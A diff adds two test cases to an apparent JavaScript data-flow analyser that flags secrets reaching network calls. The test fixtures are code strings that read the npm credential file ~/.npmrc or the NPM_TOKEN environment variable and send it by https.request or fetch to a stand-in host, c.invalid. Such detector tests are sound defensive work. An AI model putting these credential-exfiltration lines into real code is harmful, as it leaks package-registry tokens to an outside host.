@@ -373,6 +373,27 @@ describe('data flow', () => {
     ).toEqual([['env:*', 'https.request().write']]);
   });
 
+  it('follows a home file into a write chained on the request call, as on a request handle', () => {
+    const head = [
+      "const fs = require('fs'); const os = require('os'); const https = require('https');",
+      "const token = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');",
+    ];
+    const chained = [...head, "https.request({ hostname: 'c.invalid', method: 'POST' }).end(token);"];
+    expect(flows(chained.join('\n'))).toContainEqual(['fs.readFileSync', 'https.request().end']);
+    // `.end()` with nothing, or a chain on a call that is not a request, is no sink.
+    const quiet = [...head, "https.request({ hostname: 'c.invalid' }).end();", 'lib.make(token).end(token);'];
+    expect(flows(quiet.join('\n'))).toEqual([]);
+  });
+
+  it('carries a secret in a local options object into the request, as an inline one', () => {
+    const source = [
+      "const base = { method: 'POST' };",
+      "const config = { ...base, headers: { 'x-t': process.env.NPM_TOKEN } };",
+      "fetch('https://c.invalid/x', config);",
+    ].join('\n');
+    expect(flows(source)).toEqual([['env:NPM_TOKEN', 'fetch']]);
+  });
+
   it('does not follow the whole environment through a helper it configures, only through serialisers', () => {
     const helper = [
       'const pm = pickManager(process.env);',
